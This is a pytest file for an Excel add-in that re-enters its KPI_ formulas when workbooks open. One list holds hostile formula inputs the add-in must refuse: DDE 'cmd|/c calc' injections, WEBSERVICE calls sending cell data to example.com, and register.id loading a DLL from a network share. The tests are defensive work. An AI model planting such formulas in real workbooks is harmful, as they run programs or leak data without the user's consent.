"""Formulas entered again when their workbook is opened, in a VBA interpreter with an Excel in memory."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.formula import ArrayFormula
from pyopenvba.apps.excel import Range
from pyopenvba.interpreter._objects import MemberSpec
from pyopenvba.interpreter._values import error

from folders import ROOT
from memory_excel import SETTINGS, MemoryExcel, installed_excel
from stored_calls import BARE, CALLS, DUAL, OLD_PATH, OTHERS
from xlkpi.functions import FUNCTIONS
from xlkpi.hosts.excel.vba import workbook_code

NAMES = "|" + "|".join(FUNCTIONS) + "|"
MANUAL, AUTOMATIC = -4135, -4105


@pytest.fixture
def excel(tmp_path: Path) -> MemoryExcel:
    return installed_excel(tmp_path)


@pytest.fixture(scope="module")
def reader(tmp_path_factory: pytest.TempPathFactory) -> MemoryExcel:
    return installed_excel(tmp_path_factory.mktemp("excel"))


OWN_LINK = (r"='C:\other.xlam'!KPI_AOV(1)+KPI_CSAT(1,2)",)


REACHING = (
    r"='\\server\share\[x.xlsx]Sheet1'!A1+KPI_AOV(1,2)", "=_xludf.KPI_AOV([1]Sheet1!A1,2)", "=KPI_AOV([2]!rate,2)",
    "=KPI_AOV('[Book 1.xlsx]Sheet 1'!A1,2)", "=KPI_AOV(1,2)+cmd|'/c calc'!A0", "=KPI_AOV(1,2)+'cmd|/c calc'!A0",
    '=KPI_AOV(_xlfn.WEBSERVICE("https://example.com/"&A1),2)', '=KPI_AOV(1,2)+RTD("a.b",,"c")',
    r"=KPI_AOV(T['#a],1)+'\\server\share\x.xlsx'!rate", '=LET(f,WEBSERVICE,KPI_AOV(LEN(f("https://example.com")),1))',
    "=KPI_AOV(MAP(A1:A2,_xleta.WEBSERVICE),1)", '=KPI_AOV(IMPORTTEXT("https://example.com"),1)',
    '=KPI_AOV(CUBEVALUE("a","b"),1)',
    r'=KPI_AOV(1,2)+register.id("\\server\share\x.dll","f")', r"='C:\other.xlam'!KPI_AOV(1)+[1]!KPI_CSAT(1,2)",
)  # fmt: skip
"""Entered by us, these would ask a server, a program or a library before the user has agreed to it."""


@pytest.mark.parametrize("formula", REACHING)
def test_a_formula_that_reaches_out_of_its_workbook_is_not_entered(reader: MemoryExcel, formula: str) -> None:
    assert reader.run("ToEnter", formula, NAMES) == ""


@pytest.mark.parametrize(
    "formula",
    [*CALLS.values(), "=KPI_AOV(T[[#This Row],[Image]],2)", "=KPI_AOV('a, b'!A1,Mine!B2)", '=KPI_AOV("a|b",2)'],
)
def test_all_others_are(reader: MemoryExcel, formula: str) -> None:
    assert reader.run("ToEnter", formula, NAMES) == ("" if formula in OWN_LINK else formula)


@pytest.mark.parametrize("formula", CALLS)
def test_a_call_of_ours_loses_what_stands_before_its_name(reader: MemoryExcel, formula: str) -> None:
    assert reader.run("BareCalls", formula, NAMES) == CALLS[formula]


@pytest.mark.parametrize("formula", DUAL)
def test_a_dual_formula_is_left_alone(reader: MemoryExcel, formula: str) -> None:
    assert reader.run("BareCalls", formula, NAMES) == ""


@pytest.mark.parametrize("formula", OTHERS)
def test_anything_else_is_none_of_ours(reader: MemoryExcel, formula: str) -> None:
    assert reader.run("BareCalls", formula, NAMES) == ""


def test_a_workbook_is_entered_again_where_it_calls_us_and_nowhere_else(excel: MemoryExcel, tmp_path: Path) -> None:
    cells = {
        "A1": 10, "B1": 4, "C1": BARE, "D1": "=A1+B1", "E1": "=_xludf.KPI_AOV(A1,B1)*2", "F1": '="KPI_AOV("&A1',
        "A2": "KPI_AOV(", "B2": OLD_PATH, "C2": "=KPI_MINE(A1)", "D9": "=IFERROR(_xludf.KPI_AOV(A1,B1),A1/B1)",
        "E9": REACHING[0],
    }  # fmt: skip
    book = opened(excel, tmp_path, {"Mine": cells, "Nothing": {}, "No formula": {"A1": 1}, "One": {"B7": BARE}})
    excel.run("EnterFormulasAgain", book)
    again = {"C1": BARE, "E1": "=KPI_AOV(A1,B1)*2", "B2": BARE}
    assert formulas(excel, book, 1, cells) == {**cells, "A1": "10", "B1": "4", **again}
    assert sorted(excel.written) == sorted((place, "Formula2") for place in [*again, "B7"])


def test_a_name_that_reaches_out_keeps_a_formula_from_being_entered(excel: MemoryExcel, tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    names = {"asks": '_xlfn.WEBSERVICE("https://example.com")', "by_another": "asks&1", "own": "Sheet!$A$1"}
    for name, formula in names.items():
        book.defined_names[name] = DefinedName(name, attr_text=formula)
    book.active.append([f"=KPI_AOV({name},2)" for name in names])
    book.save(tmp_path / "names.xlsx")
    excel.written.clear()
    excel.run("EnterFormulasAgain", excel.app.open_workbook(tmp_path / "names.xlsx"))
    assert [place for place, _ in excel.written] == ["C1"]


def test_an_array_stays_one(excel: MemoryExcel, tmp_path: Path) -> None:
    array = ArrayFormula("C1:C2", "=_xludf.KPI_AOV(A1:A2,B1)")
    long = ArrayFormula("D1:D2", f'=KPI_AOV(A1:A2,B1)&"{"x" * 250}"')
    book = opened(excel, tmp_path, {"Mine": {"A1": 10, "A2": 20, "B1": 4, "C1": array, "D1": long}})
    excel.run("EnterFormulasAgain", book)
    sheet = book.sheets_[0]
    assert [cell(sheet, place, "HasArray") for place in ("C1", "C2", "D1", "D2")] == [True] * 4
    assert cell(sheet, "C2", "FormulaArray") == "=KPI_AOV(A1:A2,B1)"
    assert cell(sheet, "D1", "FormulaArray") == long.text  # too long to be entered as an array
    assert {name for _, name in excel.written} == {"FormulaArray"}


def test_a_formula_that_spills_goes_on_spilling(excel: MemoryExcel) -> None:
    sheet = excel.new_sheet({"A1": 10, "A2": 20})
    sheet.vba_get("Range", ["C1"]).vba_set("Formula2", '=A1:A2*2+N("KPI_")', [], {})
    sheet.vba_get("Range", ["D1"]).vba_set("Formula2", "=A1:A2*IFERROR(KPI_AOV(A1,2),2)", [], {})
    excel.written.clear()
    excel.run("EnterFormulasAgain", sheet.book)
    assert excel.written == [("D1", "Formula2")]
    assert [cell(sheet, place, "HasSpill") for place in ("C2", "D2")] == [True, True]


def test_an_excel_that_knows_no_formula2(excel: MemoryExcel, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    book = opened(excel, tmp_path, {"Mine": {"A1": "=_xludf.KPI_AOV(10,4)", "A2": "=A1"}})
    monkeypatch.setitem(Range._vba_members, "formula2", MemberSpec("Formula2", "property", _unknown))
    excel.run("EnterFormulasAgain", book)
    assert excel.written == [("A1", "Formula")]
    assert formulas(excel, book, 1, ("A1", "A2")) == {"A1": "=KPI_AOV(10,4)", "A2": "=A1"}


def _unknown(cell: Range) -> object:
    raise error(438)


def test_protected_sheets_and_the_addin_itself_are_left_alone(excel: MemoryExcel, tmp_path: Path) -> None:
    file = tmp_path / "protected.xlsx"
    workbook = openpyxl.Workbook()
    workbook.active["A1"] = "=_xludf.KPI_AOV(1,2)"
    workbook.active.protection.sheet = True
    workbook.save(file)
    book = excel.app.open_workbook(file)
    excel.run("EnterFormulasAgain", book)
    addin_itself = excel.app.application.vba_get("ThisWorkbook")
    addin_itself.sheets_[0].vba_get("Range", ["Z9"]).vba_set("Formula", BARE, [], {})
    excel.written.clear()
    excel.run("EnterFormulasAgain", addin_itself)
    assert excel.written == []
    assert cell(book.sheets_[0], "A1", "Formula") == "=_xludf.KPI_AOV(1,2)"


def test_our_own_templates_stay_as_they_are(excel: MemoryExcel) -> None:
    book = excel.app.open_workbook(ROOT / "workbooks" / "custom-phone-cases.fr.xlsx")
    excel.run("EnterFormulasAgain", book)
    protected = [sheet.vba_get("ProtectContents") for sheet in book.sheets_]
    assert any(protected)
    assert excel.written == []


@pytest.mark.slow
def test_our_own_templates_would_also_without_protection(reader: MemoryExcel) -> None:
    """As Excel saves them when it has linked them once. One formula for each function is asked."""
    template = openpyxl.load_workbook(ROOT / "workbooks" / "custom-phone-cases.fr.xlsx")
    formulas = [str(cell.value) for sheet in template for row in sheet for cell in row if cell.data_type == "f"]
    asked = {name: text for text in formulas for name in re.findall(r"KPI_\w+", text)}
    assert len(asked) > 8
    for formula in asked.values():
        linked = formula.replace("KPI_", "[1]!KPI_")
        assert reader.run("BareCalls", linked, NAMES) == "", linked


@pytest.mark.parametrize("calculation", [AUTOMATIC, MANUAL])
@pytest.mark.parametrize("saved", [True, False])
def test_excel_and_the_workbook_are_as_they_were(
    excel: MemoryExcel, tmp_path: Path, calculation: int, saved: bool
) -> None:
    book = opened(excel, tmp_path, {"Mine": {"A1": BARE}})
    for name, value in zip(SETTINGS, (calculation, True, True), strict=True):
        excel.app.application.vba_set(name, value, [], {})
    book.vba_set("Saved", saved, [], {})
    excel.run("EnterFormulasAgain", book)
    assert excel.set_meanwhile == {(MANUAL, False, False, False)}
    assert excel.settings() == (calculation, True, True, True)
    assert book.vba_get("Saved") is saved


def test_opening_the_addin_or_a_workbook_starts_it_all(excel: MemoryExcel, tmp_path: Path) -> None:
    # the interpreter has no events, so the test calls what Excel would
    excel.add_workbook_code(workbook_code().replace("WithEvents ", ""))
    first = opened(excel, tmp_path, {"Mine": {"A1": BARE}})
    excel.run("ThisWorkbook.Workbook_Open")
    assert excel.written == [("A1", "Formula2")]
    assert len(excel.described) == len(FUNCTIONS)
    excel.run("ThisWorkbook.App_WorkbookActivate", first)
    assert len(excel.described) == len(FUNCTIONS)
    excel.written.clear()
    excel.run("ThisWorkbook.App_WorkbookOpen", opened(excel, tmp_path, {"Other": {"B1": BARE}}))
    assert excel.written == [("B1", "Formula2")]


def opened(excel: MemoryExcel, folder: Path, sheets: dict[str, dict[str, Any]]) -> Any:
    """A workbook with these sheets, opened from a file."""
    workbook = openpyxl.Workbook()
    workbook.remove(workbook.active)
    for name, cells in sheets.items():
        sheet = workbook.create_sheet(name)
        for place, value in cells.items():
            sheet[place] = value
    file = folder / f"{next(iter(sheets))}.xlsx"
    workbook.save(file)
    return excel.app.open_workbook(file)


def formulas(excel: MemoryExcel, book: Any, number: int, places: Any) -> dict[str, str]:
    view = excel.app.sheet(number, workbook=book)
    return {place: view.formula(place) for place in places}


def cell(sheet: Any, place: str, member: str) -> Any:
    return sheet.vba_get("Range", [place]).vba_get(member)
